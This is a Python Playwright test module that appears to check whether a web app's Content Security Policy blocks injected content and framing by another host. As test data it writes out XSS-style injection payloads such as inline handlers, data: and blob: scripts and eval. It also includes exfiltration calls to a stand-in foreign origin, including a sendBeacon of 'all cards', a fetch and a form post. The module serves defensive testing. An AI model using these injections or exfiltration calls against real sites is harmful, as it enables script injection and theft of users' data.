"""What an attacker tries who can write into the page of the web app: scripts, frames, and hosts of their own."""

from __future__ import annotations

from pathlib import Path
from tempfile import TemporaryDirectory

from playwright.sync_api import Browser, Page, Worker

from app.publish import headers, site
from tests.web.static_site import Site

# By the part of the policy that is to refuse them, with what it names; {foreign} is an origin of somebody else's. Each
# that runs all the same says so to `ran`.
IN_PAGE = {
    "a script in the page": ("script-src-elem inline", "put('script', {textContent: 'ran(0)'})"),
    "a handler in an attribute": (
        "script-src-attr inline",
        "put('div', {innerHTML: '<img src=\"data:,\" onerror=\"ran(1)\">'})",
    ),
    "a script in an address": ("script-src-elem data", "put('script', {src: 'data:text/javascript,ran(2)'})"),
    "a script of another host": ("script-src-elem {foreign}/a.js", "put('script', {src: '{foreign}/a.js'})"),
    "a script that was made here": ("script-src-elem blob", "put('script', {src: made})"),
    "an address that is a script": ("script-src-elem inline", "location = 'javascript:ran(3)'"),
    "text as a script": ("script-src eval", "(0, eval)('ran(4)')"),
    "text as a function": ("script-src eval", "new Function('ran(5)')()"),
    "text for a clock": ("script-src eval", "setTimeout('ran(6)')"),
    "a worker that was made here": ("worker-src blob", "new Worker(made)"),
    "a request over plain http": ("connect-src {foreign}/", "fetch('{foreign}').then(() => ran(7))"),
    "a message over plain http": ("connect-src {foreign}/", "navigator.sendBeacon('{foreign}', 'all cards')"),
    "a socket over plain http": ("connect-src {socket}", "new WebSocket('{socket}')"),
    "a picture of another host": ("img-src {foreign}/a.png", "put('img', {src: '{foreign}/a.png'})"),
    "a frame": ("frame-src {foreign}", "put('iframe', {src: '{foreign}'})"),
    "a plug-in": ("object-src {foreign}", "put('object', {data: '{foreign}/a'})"),
    "another place for all files": ("base-uri {foreign}/", "document.head.prepend(make('base', {href: '{foreign}'}))"),
    "a form that tells": ("form-action {foreign}/?", "put('form', {action: '{foreign}'}).submit()"),
}
IN_PYTHON = {
    "text as a script": ("script-src eval", "(0, eval)('ran(0)')"),
    "a module in an address": ("script-src-elem data", "import('data:text/javascript,self.ran(1)')"),
    "a module of another host": ("script-src-elem {foreign}/a.js", "import('{foreign}/a.js')"),
    "a request over plain http": ("connect-src {foreign}/", "fetch('{foreign}').then(() => ran(2))"),
}
# What is asked of a page by a tool may make scripts of text; so each attempt is one that the page makes by itself.
TRY = """() => {
    self.wasRun = [];
    self.wasRefused = [];
    const ran = self.ran = number => self.wasRun.push(number);
    addEventListener("securitypolicyviolation", event =>
        self.wasRefused.push(`${event.effectiveDirective} ${event.blockedURI}`));
    const make = (name, with_) => Object.assign(document.createElement(name), with_);
    const put = (name, with_) => document.body.appendChild(make(name, with_));
    const made = URL.createObjectURL(new Blob(["self.ran?.(9)"], {type: "text/javascript"}));
    const quiet = attempt => setTimeout(async () => { try { await attempt(); } catch {} });
ATTEMPTS
}"""


# Ways to show the app within another page.
FRAMES = {
    "a frame": "<iframe src='{app}'></iframe>",
    "a frame without rights": "<iframe src='{app}' sandbox></iframe>",
    "a frame with the right to scripts": "<iframe src='{app}' sandbox='allow-scripts allow-same-origin'></iframe>",
    "an object": "<object data='{app}' type='text/html'></object>",
    "something embedded": "<embed src='{app}' type='text/html'>",
}


def frame(chrome: Browser, *, heeding: bool) -> list[str]:
    """Return the ways in which another host's page can show the app in a frame.

    The app's host sends the headers that its folder asks for, or doesn't.
    """
    shown = []
    with TemporaryDirectory() as own, TemporaryDirectory() as other:
        site.write_files(Path(own), {"index.html": site.index_page("/"), **headers.header_files("/")})
        with Site(Path(own), heeding=heeding) as app, Site(Path(other)) as host:
            for way, text in FRAMES.items():
                (Path(other) / "index.html").write_text(text.replace("{app}", app.address))
                page = chrome.new_page()
                page.goto(host.address, wait_until="load")
                shown += [way for inside in page.frames[1:] if inside.url.startswith(app.address)]
                page.close()
    return shown


def inject(place: Page | Worker, foreign: str) -> tuple[list[str], list[str], list[int]]:
    """Try everything in a page or its Python; return what should have been refused, what was, and what ran."""
    socket = foreign.replace("http", "ws") + "/"
    attempts = IN_PAGE if isinstance(place, Page) else IN_PYTHON

    def told(text: str) -> str:
        return text.replace("{foreign}", foreign).replace("{socket}", socket)

    code = "\n".join(f"    quiet(() => {told(attempt)});" for _, attempt in attempts.values())
    place.evaluate(TRY.replace("ATTEMPTS", code))
    place.evaluate(WAIT, len(attempts))
    refused, ran = place.evaluate("[self.wasRefused, self.wasRun]")
    return sorted(told(expected) for expected, _ in attempts.values()), sorted(refused), ran


# Some of it comes later than the rest; what never comes is missed after ten seconds.
WAIT = """async count => {
    for (let left = 100; left && self.wasRefused.length < count; left--)
        await new Promise(resolve => setTimeout(resolve, 100));
}"""
